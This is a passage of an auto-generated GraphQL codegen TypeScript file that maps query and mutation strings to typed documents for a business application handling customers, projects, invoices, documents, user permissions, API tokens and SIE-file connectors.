/* eslint-disable */
import * as types from './graphql.js';
import type { TypedDocumentNode as DocumentNode } from '@graphql-typed-document-node/core';

/**
 * Map of all GraphQL operations in the project.
 *
 * This map has several performance disadvantages:
 * 1. It is not tree-shakeable, so it will include all operations in the project.
 * 2. It is not minifiable, so the string of a GraphQL query will be multiple times inside the bundle.
 * 3. It does not support dead code elimination, so it will add unused operations.
 *
 * Therefore it is highly recommended to use the babel or swc plugin for production.
 * Learn more about it here: https://the-guild.dev/graphql/codegen/plugins/presets/preset-client#reducing-bundle-size
 */
type Documents = {
    "\n  mutation FileKitCreate($input: CreateConnectionInput!) {\n    createConnection(input: $input) { __typename ... on MutationCreateConnectionSuccess { data { id } } ... on Error { message } }\n  }\n": typeof types.FileKitCreateDocument,
    "\n  mutation FileKitUpdate($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n": typeof types.FileKitUpdateDocument,
    "\n  mutation FileKitRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n": typeof types.FileKitRunDocument,
    "\n  query FileKitFiles($id: ID!) { connectionFiles(connectionId: $id, first: 100) { edges { node { name url } } } }\n": typeof types.FileKitFilesDocument,
    "\n  mutation KitCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id } }\n      ... on Error { message }\n    }\n  }\n": typeof types.KitCreateConnectionDocument,
    "\n  mutation KitRunConnection($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess {\n        data { id status }\n      }\n      ... on Error { message }\n    }\n  }\n": typeof types.KitRunConnectionDocument,
    "\n  mutation SieCreateConnection($settings: JSON) {\n    createConnection(input: { connectorId: \"sie\", name: \"SIE-fil\", settings: $settings }) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id hasCredentials connector { credentialKind } } }\n      ... on Error { message }\n    }\n  }\n": typeof types.SieCreateConnectionDocument,
    "\n  mutation SieUpdateConnection($id: ID!, $settings: JSON) {\n    updateConnection(input: { id: $id, settings: $settings }) { __typename ... on Error { message } }\n  }\n": typeof types.SieUpdateConnectionDocument,
    "\n  mutation SieRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) { __typename ... on MutationRunConnectionSuccess { data { id } } ... on Error { message } }\n  }\n": typeof types.SieRunDocument,
    "\n  mutation SieReexport($id: ID!, $invoiceIds: [ID!]!) {\n    reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) {\n      __typename\n      ... on MutationReexportInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on Error { message }\n    }\n  }\n": typeof types.SieReexportDocument,
    "\n  mutation SieCheck($id: ID!) { checkConnection(id: $id) { __typename ... on MutationCheckConnectionSuccess { data { ok message } } } }\n": typeof types.SieCheckDocument,
    "\n  query SieFiles($id: ID!) {\n    connectionFiles(connectionId: $id, first: 20) {\n      edges { node { id name contentType size sha256 flowId url createdAt run { id } } }\n    }\n  }\n": typeof types.SieFilesDocument,
    "\n  query SieRunFiles($id: ID!) { node(id: $id) { ... on ConnectorRun { files { id name size url } } } }\n": typeof types.SieRunFilesDocument,
    "\n  mutation SieReexportSupplier($id: ID!, $supplierInvoiceIds: [ID!]!) {\n    reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) {\n      __typename\n      ... on MutationReexportSupplierInvoicesSuccess { data { id trigger requestedFlows } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message path }\n    }\n  }\n": typeof types.SieReexportSupplierDocument,
    "\n  mutation Login($input: LoginInput!) {\n    login(input: $input) {\n      __typename\n      ... on Error { code message path }\n      ... on TooManyAttemptsError { retryAfterSeconds retryAt }\n      ... on MutationLoginSuccess {\n        data {\n          __typename\n          ... on LoginSession { sessionId accessToken accessTokenExpiresAt refreshToken refreshTokenExpiresAt }\n          ... on SecondFactorChallenge { challenge expiresAt }\n          ... on CompanyChoice { companies { id name } }\n        }\n      }\n    }\n  }\n": typeof types.LoginDocument,
    "\n  mutation RefreshSession($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) {\n      __typename\n      ... on Error { code message path }\n      ... on MutationRefreshSessionSuccess { data { sessionId accessToken refreshToken } }\n    }\n  }\n": typeof types.RefreshSessionDocument,
    "query LoginMe { me { id email totpEnabled hasPassword } }": typeof types.LoginMeDocument,
    "\n  query AuthMe {\n    me {\n      id\n      name\n      email\n      signature\n      active\n      permissions\n    }\n  }\n": typeof types.AuthMeDocument,
    "\n  query AuthMeGroups {\n    me { id groups { id name } }\n  }\n": typeof types.AuthMeGroupsDocument,
    "\n  query AuthPermissions {\n    permissions { permission description }\n  }\n": typeof types.AuthPermissionsDocument,
    "\n  query AuthUsers($includeInactive: Boolean, $first: Int) {\n    users(includeInactive: $includeInactive, first: $first) {\n      edges { node { id name email signature active } }\n      pageInfo { hasNextPage }\n    }\n  }\n": typeof types.AuthUsersDocument,
    "\n  query AuthGroups {\n    groups { id name permissions members { id } }\n  }\n": typeof types.AuthGroupsDocument,
    "\n  query AuthApiTokens($includeRevoked: Boolean) {\n    apiTokens(includeRevoked: $includeRevoked) {\n      id\n      name\n      tokenPrefix\n      lastUsedAt\n      expiresAt\n      revokedAt\n      revokedBy\n      active\n      createdBy\n      user { id }\n    }\n  }\n": typeof types.AuthApiTokensDocument,
    "\n  mutation AuthCreateApiToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) {\n      __typename\n      ... on MutationCreateApiTokenSuccess {\n        data {\n          token\n          apiToken { id name tokenPrefix expiresAt lastUsedAt revokedAt active user { id } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthCreateApiTokenDocument,
    "\n  mutation AuthRevokeApiToken($id: ID!) {\n    revokeApiToken(id: $id) {\n      __typename\n      ... on MutationRevokeApiTokenSuccess {\n        data { id name revokedAt revokedBy active }\n      }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthRevokeApiTokenDocument,
    "\n  mutation AuthCreateUser($input: CreateUserInput!) {\n    createUser(input: $input) {\n      __typename\n      ... on MutationCreateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthCreateUserDocument,
    "\n  mutation AuthUpdateUser($input: UpdateUserInput!) {\n    updateUser(input: $input) {\n      __typename\n      ... on MutationUpdateUserSuccess {\n        data { id name email signature active permissions groups { id name } createdBy modifiedBy createdAt modifiedAt }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthUpdateUserDocument,
    "\n  mutation AuthCreateGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) {\n      __typename\n      ... on MutationCreateGroupSuccess {\n        data { id name permissions createdBy }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthCreateGroupDocument,
    "\n  mutation AuthUpdateGroup($input: UpdateGroupInput!) {\n    updateGroup(input: $input) {\n      __typename\n      ... on MutationUpdateGroupSuccess {\n        data { id name permissions members { id } }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthUpdateGroupDocument,
    "\n  mutation AuthDeleteGroup($id: ID!) {\n    deleteGroup(id: $id) {\n      __typename\n      ... on MutationDeleteGroupSuccess { data }\n      ... on Error { code message path }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.AuthDeleteGroupDocument,
    "\n  query HistCustomer($id: ID!) {\n    node(id: $id) {\n      ... on Customer {\n        history(first: 10) { edges { node { at by changes { field from to hidden } } } }\n        contacts(first: 5) { edges { node { id history(first: 5) { edges { node { by changes { field from to hidden } } } } } } }\n      }\n    }\n  }\n": typeof types.HistCustomerDocument,
    "\n  mutation HistUpdate($input: UpdateCustomerInput!) { updateCustomer(input: $input) { __typename ... on Error { message } } }\n": typeof types.HistUpdateDocument,
    "\n  query HistProject($id: ID!) { node(id: $id) { ... on Project { history(first: 5) { edges { node { by changes { field from to } } } } } } }\n": typeof types.HistProjectDocument,
    "\n  mutation HistProjectUpdate($input: UpdateProjectInput!) { updateProject(input: $input) { __typename ... on Error { message } } }\n": typeof types.HistProjectUpdateDocument,
    "\n  query HistInvoice($id: ID!) { node(id: $id) { ... on Invoice { history(first: 10) { edges { node { by changes { field from to } } } } } } }\n": typeof types.HistInvoiceDocument,
    "\n  mutation HistImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) { __typename ... on MutationImportCustomersSuccess { data { committed updated } } ... on Error { message } }\n  }\n": typeof types.HistImportDocument,
    "\n  mutation HealthCreateConnection($input: CreateConnectionInput!) {\n    createConnection(input: $input) {\n      __typename\n      ... on MutationCreateConnectionSuccess { data { id pauseAfterFailures health { consecutiveFailures paused lastRunStatus } } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.HealthCreateConnectionDocument,
    "\n  mutation HealthUpdateConnection($input: UpdateConnectionInput!) {\n    updateConnection(input: $input) {\n      __typename\n      ... on MutationUpdateConnectionSuccess { data { id pauseAfterFailures } }\n      ... on ValidationError { issues { path code message } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.HealthUpdateConnectionDocument,
    "\n  query HealthOfConnection($id: ID!) {\n    node(id: $id) {\n      ... on Connection {\n        health { lastRunStatus lastRunAt consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt }\n      }\n    }\n  }\n": typeof types.HealthOfConnectionDocument,
    "\n  mutation HealthRun($id: ID!, $dryRun: Boolean) {\n    runConnection(id: $id, dryRun: $dryRun) {\n      __typename\n      ... on MutationRunConnectionSuccess { data { id status dryRun notification } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.HealthRunDocument,
    "\n  mutation HealthResume($id: ID!) {\n    resumeConnection(id: $id) {\n      __typename\n      ... on MutationResumeConnectionSuccess { data { id health { consecutiveFailures paused pausedAt pausedReason nextScheduledRunAt } } }\n      ... on Error { message code }\n    }\n  }\n": typeof types.HealthResumeDocument,
    "\n  mutation NumCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number } }\n      ... on Error { code path message }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.NumCreateDocument,
    "mutation NumDelete($id: ID!) { deleteCustomer(id: $id) { __typename } }": typeof types.NumDeleteDocument,
    "\n  mutation NumSettings($input: UpdateCompanySettingsInput!) { updateCompanySettings(input: $input) { __typename } }\n": typeof types.NumSettingsDocument,
    "\n  mutation NumImport($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed created rows { customerNumber outcome } } }\n      ... on Error { code message }\n    }\n  }\n": typeof types.NumImportDocument,
    "\n  mutation CsCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { message } } }\n": typeof types.CsCustomerDocument,
    "\n  mutation CsProject($input: CreateProjectInput!) {\n    createProject(input: $input) {\n      __typename\n      ... on MutationCreateProjectSuccess { data { id } }\n      ... on ValidationError { issues { path code message } }\n    }\n  }\n": typeof types.CsProjectDocument,
    "\n  mutation CsUpdateProject($input: UpdateProjectInput!) {\n    updateProject(input: $input) { __typename ... on ValidationError { issues { path code message } } }\n  }\n": typeof types.CsUpdateProjectDocument,
    "\n  mutation CsInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess { data { id revenueLines { id } accountingBasis { id } } }\n      ... on Error { message }\n    }\n  }\n": typeof types.CsInvoiceDocument,
    "\n  mutation CsLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } }\n  }\n": typeof types.CsLockDocument,
    "\n  mutation CsRevenue($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) { __typename ... on ValidationError { issues { path code } } }\n  }\n": typeof types.CsRevenueDocument,
    "mutation CsRules($rules: [PostingRuleInput!]!) { setRevenuePostingRules(rules: $rules) { __typename } }": typeof types.CsRulesDocument,
    "mutation CsAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": typeof types.CsAccountDocument,
    "\n  mutation CsRevenueLine($id: ID!, $input: RevenueLineInput!) { updateInvoiceRevenueLine(id: $id, input: $input) { __typename } }\n": typeof types.CsRevenueLineDocument,
    "\n  mutation CsBasisRow($id: ID!, $input: AccountingBasisRowInput!) { updateAccountingBasisRow(id: $id, input: $input) { __typename ... on Error { message } } }\n": typeof types.CsBasisRowDocument,
    "\n  mutation CuInvite($customerId: ID!, $email: String!, $rights: [CustomerUserRight!]!) {\n    inviteCustomerUser(customerId: $customerId, email: $email, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationInviteCustomerUserSuccess { data { email rights expiresAt customer { id } } }\n    }\n  }\n": typeof types.CuInviteDocument,
    "\n  mutation CuAccept($token: String!, $name: String!, $password: String!) {\n    acceptInvite(token: $token, name: $name, password: $password) {\n      __typename\n      ... on Error { code path }\n      ... on MutationAcceptInviteSuccess { data { accessToken refreshToken } }\n    }\n  }\n": typeof types.CuAcceptDocument,
    "\n  mutation CuLogin($input: LoginInput!) {\n    login(input: $input) { __typename ... on Error { code } ... on MutationLoginSuccess { data { __typename ... on LoginSession { accessToken refreshToken } } } }\n  }\n": typeof types.CuLoginDocument,
    "\n  mutation CuRefresh($refreshToken: String!) {\n    refreshSession(refreshToken: $refreshToken) { __typename ... on Error { code } ... on MutationRefreshSessionSuccess { data { accessToken } } }\n  }\n": typeof types.CuRefreshDocument,
    "\n  mutation CuSetRights($userId: ID!, $rights: [CustomerUserRight!]!) {\n    setCustomerUserRights(userId: $userId, rights: $rights) {\n      __typename\n      ... on Error { code path }\n      ... on MutationSetCustomerUserRightsSuccess { data { id customerRights } }\n    }\n  }\n": typeof types.CuSetRightsDocument,
    "\n  mutation CuDelete($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code path } ... on MutationDeleteCustomerUserSuccess { data } } }\n": typeof types.CuDeleteDocument,
    "\n  query CuPortal {\n    customerPortal { number name rights invoiceCity }\n  }\n": typeof types.CuPortalDocument,
    "\n  query CuPortalInvoices {\n    customerPortal {\n      invoices(first: 10) { totalCount edges { node { number total amountToPay dueDate ocrReference paidDate pdfUrl projectNumber } } }\n    }\n  }\n": typeof types.CuPortalInvoicesDocument,
    "\n  query CuPortalProjects { customerPortal { projects(first: 10) { totalCount edges { node { number name statusCode statusName } } } } }\n": typeof types.CuPortalProjectsDocument,
    "\n  query CuPortalDocuments { customerPortal { documents(first: 10) { edges { node { name url folder { name } } } } documentFolders { name } } }\n": typeof types.CuPortalDocumentsDocument,
    "\n  query CuCustomerUsers($id: ID!) { customer(id: $id) { id users { id email customerRights active lastLoginAt } } }\n": typeof types.CuCustomerUsersDocument,
    "query CuUsers { users(first: 100) { edges { node { id email customer { id } customerRights } } } }": typeof types.CuUsersDocument,
    "\n  mutation CuCreateCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": typeof types.CuCreateCustomerDocument,
    "\n  mutation CuCreateProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on Error { code path } ... on ValidationError { issues { path code } } ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": typeof types.CuCreateProjectDocument,
    "\n  mutation CuCreateInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id number } } ... on Error { message } } }\n": typeof types.CuCreateInvoiceDocument,
    "mutation CuLock($id: ID!) { lockInvoice(id: $id) { __typename ... on Error { message } } }": typeof types.CuLockDocument,
    "\n  mutation CuAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": typeof types.CuAssignDocument,
    "\n  mutation CuUpdateUser($input: UpdateUserInput!) { updateUser(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": typeof types.CuUpdateUserDocument,
    "\n  mutation CuCreateToken($input: CreateApiTokenInput!) { createApiToken(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": typeof types.CuCreateTokenDocument,
    "\n  mutation CuUpdateInvoice($input: UpdateInvoiceInput!) { updateInvoice(input: $input) { __typename ... on ValidationError { issues { path code } } ... on Error { code path } } }\n": typeof types.CuUpdateInvoiceDocument,
    "\n  mutation CuDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code path message } } }\n": typeof types.CuDeleteCustomerDocument,
    "query CuGroups { groups { id name } }": typeof types.CuGroupsDocument,
    "mutation CuInviteStaff($email: String!) { inviteUser(email: $email) { __typename ... on Error { code path } } }": typeof types.CuInviteStaffDocument,
    "query CuMe { me { email customerRights } }": typeof types.CuMeDocument,
    "\n  mutation VisCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 5) { edges { node { id } } } } } }\n  }\n": typeof types.VisCustomerDocument,
    "mutation VisAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename } }": typeof types.VisAssignDocument,
    "\n  mutation VisProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id } } } }\n": typeof types.VisProjectDocument,
    "\n  mutation VisInvoice($input: CreateInvoiceInput!) { createInvoice(input: $input) { __typename ... on MutationCreateInvoiceSuccess { data { id } } } }\n": typeof types.VisInvoiceDocument,
    "\n  mutation VisBuyers($invoiceId: ID!, $buyers: [InvoiceBuyerInput!]!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: $buyers) { __typename } }\n": typeof types.VisBuyersDocument,
    "\n  query VisLists {\n    projects(first: 50) { edges { node { id name customer { id name personalIdentityNumber } contact { id personalIdentityNumber } } } }\n    invoices(first: 50) {\n      edges { node { id title customer { id name personalIdentityNumber } contact { id name } buyers { name contact { id personalIdentityNumber } } } }\n    }\n  }\n": typeof types.VisListsDocument,
    "\n  query VisOne($project: ID!, $invoice: ID!) {\n    project(id: $project) { id customer { id name } contact { id } }\n    invoice(id: $invoice) { id customer { id name } contact { id } buyers { contact { id } } }\n    node(id: $project) { ... on Project { customer { id personalIdentityNumber } } }\n  }\n": typeof types.VisOneDocument,
    "query VisUsers { users(first: 100) { edges { node { email customer { id name } } } } }": typeof types.VisUsersDocument,
    "\n  mutation CustCreate($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber isConstructionCompany\n          vatDisplayType showsVat language comments active createdBy modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          invoiceEmail phone mobile email\n          paymentTerm { code days }\n          assignedUser { signature }\n          customFields { key label type value }\n          contacts(first: 20) {\n            totalCount\n            edges { node { id name personalIdentityNumber isMainContact brfOrganisationNumber apartmentNumber propertyDesignation rotMissing } }\n          }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.CustCreateDocument,
    "\n  mutation CustUpdate($input: UpdateCustomerInput!) {\n    updateCustomer(input: $input) {\n      __typename\n      ... on MutationUpdateCustomerSuccess {\n        data {\n          id number name type organisationNumber personalIdentityNumber vatNumber showsVat vatDisplayType\n          phone email comments modifiedBy\n          invoiceAddress { address1 address2 postcode city countryCode }\n          visitingAddress { address1 city countryCode }\n          mailAddress { address1 postcode city countryCode }\n          customFields { key value }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.CustUpdateDocument,
    "\n  query CustList($first: Int, $after: String, $search: String, $filter: CustomerFilter, $orderBy: CustomerOrder) {\n    customers(first: $first, after: $after, search: $search, filter: $filter, orderBy: $orderBy) {\n      totalCount\n      pageInfo { hasNextPage endCursor }\n      edges { node { id number name active } }\n    }\n  }\n": typeof types.CustListDocument,
    "\n  query CustGet($id: ID!) {\n    customer(id: $id) { id number name active assignedUser { signature } contacts(first: 20) { totalCount edges { node { id name isMainContact } } } }\n  }\n": typeof types.CustGetDocument,
    "\n  query CustByNumber($number: String!) {\n    customerByNumber(number: $number) { id name }\n  }\n": typeof types.CustByNumberDocument,
    "\n  mutation CustLifecycle($id: ID!) {\n    inactivateCustomer(id: $id) {\n      __typename\n      ... on MutationInactivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n": typeof types.CustLifecycleDocument,
    "\n  mutation CustActivate($id: ID!) {\n    activateCustomer(id: $id) {\n      __typename\n      ... on MutationActivateCustomerSuccess { data { active } }\n      ... on Error { code }\n    }\n  }\n": typeof types.CustActivateDocument,
    "\n  mutation CustChangeNumber($id: ID!, $number: String!) {\n    changeCustomerNumber(id: $id, number: $number) {\n      __typename\n      ... on MutationChangeCustomerNumberSuccess { data { number } }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.CustChangeNumberDocument,
    "\n  mutation CustDelete($id: ID!) {\n    deleteCustomer(id: $id) {\n      __typename\n      ... on MutationDeleteCustomerSuccess { data }\n      ... on Error { code message }\n    }\n  }\n": typeof types.CustDeleteDocument,
    "\n  mutation CustAssign($id: ID!, $userId: ID) {\n    assignCustomer(id: $id, userId: $userId) {\n      __typename\n      ... on MutationAssignCustomerSuccess { data { assignedUser { signature } } }\n      ... on Error { code path }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.CustAssignDocument,
    "\n  mutation CustAddContact($customerId: ID!, $input: ContactInput!) {\n    addContact(customerId: $customerId, input: $input) {\n      __typename\n      ... on MutationAddContactSuccess { data { id name personalIdentityNumber isMainContact propertyDesignation rotMissing createdBy customer { id } } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.CustAddContactDocument,
    "\n  mutation CustUpdateContact($id: ID!, $input: ContactInput!) {\n    updateContact(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateContactSuccess { data { id name email isMainContact } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.CustUpdateContactDocument,
    "\n  mutation CustRemoveContact($id: ID!) {\n    removeContact(id: $id) {\n      __typename\n      ... on MutationRemoveContactSuccess { data }\n      ... on Error { code }\n    }\n  }\n": typeof types.CustRemoveContactDocument,
    "\n  mutation CustCopy($customerId: ID!) {\n    copyCustomerToContact(customerId: $customerId) {\n      __typename\n      ... on MutationCopyCustomerToContactSuccess { data { name personalIdentityNumber mobile phone email } }\n      ... on Error { code }\n    }\n  }\n": typeof types.CustCopyDocument,
    "\n  mutation CustDefineField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) {\n      __typename\n      ... on MutationCreateCustomFieldDefinitionSuccess { data { id key } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.CustDefineFieldDocument,
    "\n  mutation CustSettings($input: UpdateCompanySettingsInput!) {\n    updateCompanySettings(input: $input) {\n      __typename\n      ... on MutationUpdateCompanySettingsSuccess { data { customerNumberMinLength customerNumberMaxLength customerNumberStart } }\n      ... on Error { code path }\n    }\n  }\n": typeof types.CustSettingsDocument,
    "\n  query CustPaymentTerms { paymentTerms { id code days } }\n": typeof types.CustPaymentTermsDocument,
    "\n  query CustMe { me { id signature } }\n": typeof types.CustMeDocument,
    "\n      query CustPage($first: Int!) {\n        customers(first: $first) {\n          edges { node { id name contacts(first: 10) { edges { node { id name rotMissing } } } } }\n        }\n      }\n    ": typeof types.CustPageDocument,
    "\n  mutation DocCreateCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } ... on Error { code message } }\n  }\n": typeof types.DocCreateCustomerDocument,
    "\n  mutation DocCreateProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Tak\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } ... on Error { code message } }\n  }\n": typeof types.DocCreateProjectDocument,
    "query DocMe { me { id } }": typeof types.DocMeDocument,
    "\n  mutation DocDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code message path } } }\n": typeof types.DocDeleteCustomerDocument,
    "\n  mutation DocUploadCustomer($input: UploadCustomerDocumentInput!) {\n    uploadCustomerDocument(input: $input) {\n      __typename\n      ... on MutationUploadCustomerDocumentSuccess { data { id name contentType size sha256 createdBy createdAt url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.DocUploadCustomerDocument,
    "\n  mutation DocUploadProject($input: UploadProjectDocumentInput!) {\n    uploadProjectDocument(input: $input) {\n      __typename\n      ... on MutationUploadProjectDocumentSuccess { data { id name contentType size url folder { id name } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.DocUploadProjectDocument,
    "\n  query DocCustomerDocs($id: ID!, $folderId: ID, $topLevel: Boolean) {\n    customer(id: $id) {\n      id\n      documents(first: 50, folderId: $folderId, topLevel: $topLevel) { edges { node { id name contentType size url folder { name } } } }\n      documentFolders { id name createdBy }\n    }\n  }\n": typeof types.DocCustomerDocsDocument,
    "\n  query DocProjectDocs($id: ID!) {\n    node(id: $id) { ... on Project { documents(first: 50) { edges { node { id name folder { name } } } } documentFolders { id name } } }\n  }\n": typeof types.DocProjectDocsDocument,
    "query DocNode($id: ID!) { node(id: $id) { id ... on Document { name } } }": typeof types.DocNodeDocument,
    "query DocCustomers { customers(first: 50) { edges { node { id name documents(first: 10) { edges { node { name } } } } } } }": typeof types.DocCustomersDocument,
    "\n  mutation DocDelete($id: ID!) { deleteDocument(id: $id) { __typename ... on MutationDeleteDocumentSuccess { data } ... on Error { code path } ... on ForbiddenError { permission } } }\n": typeof types.DocDeleteDocument,
    "\n  mutation DocCreateCustomerFolder($input: CreateCustomerDocumentFolderInput!) {\n    createCustomerDocumentFolder(input: $input) {\n      __typename\n      ... on MutationCreateCustomerDocumentFolderSuccess { data { id name } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.DocCreateCustomerFolderDocument,
    "\n  mutation DocCreateProjectFolder($input: CreateProjectDocumentFolderInput!) {\n    createProjectDocumentFolder(input: $input) { __typename ... on MutationCreateProjectDocumentFolderSuccess { data { id name } } ... on Error { code path } }\n  }\n": typeof types.DocCreateProjectFolderDocument,
    "\n  mutation DocRenameFolder($input: RenameDocumentFolderInput!) {\n    renameDocumentFolder(input: $input) { __typename ... on MutationRenameDocumentFolderSuccess { data { id name } } ... on Error { code path } ... on ValidationError { issues { path code } } }\n  }\n": typeof types.DocRenameFolderDocument,
    "\n  mutation DocDeleteFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on MutationDeleteDocumentFolderSuccess { data } ... on Error { code path } } }\n": typeof types.DocDeleteFolderDocument,
    "query FsVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType url } } } } }": typeof types.FsVoucherFilesDocument,
    "\n  mutation FsCreateSupplierInvoice($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess { data { id document { fileName contentType url } } }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": typeof types.FsCreateSupplierInvoiceDocument,
    "\n  mutation ImpCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess {\n        data {\n          mode committed message format encoding sheet headerRow totalRows created updated unchanged errorRows unknownColumns\n          columns { header field }\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.ImpCustomersDocument,
    "\n  mutation ImpContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess {\n        data {\n          mode committed message totalRows created updated unchanged errorRows unknownColumns\n          rows { row outcome customerNumber name id changes { field column from to } errors { row column field code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": typeof types.ImpContactsDocument,
    "\n  mutation ImpErrorRows($file: File!) {\n    importCustomers(file: $file) {\n      ... on MutationImportCustomersSuccess { data { totalRows rows(outcomes: [ERROR], first: 2) { row outcome } } }\n    }\n  }\n": typeof types.ImpErrorRowsDocument,
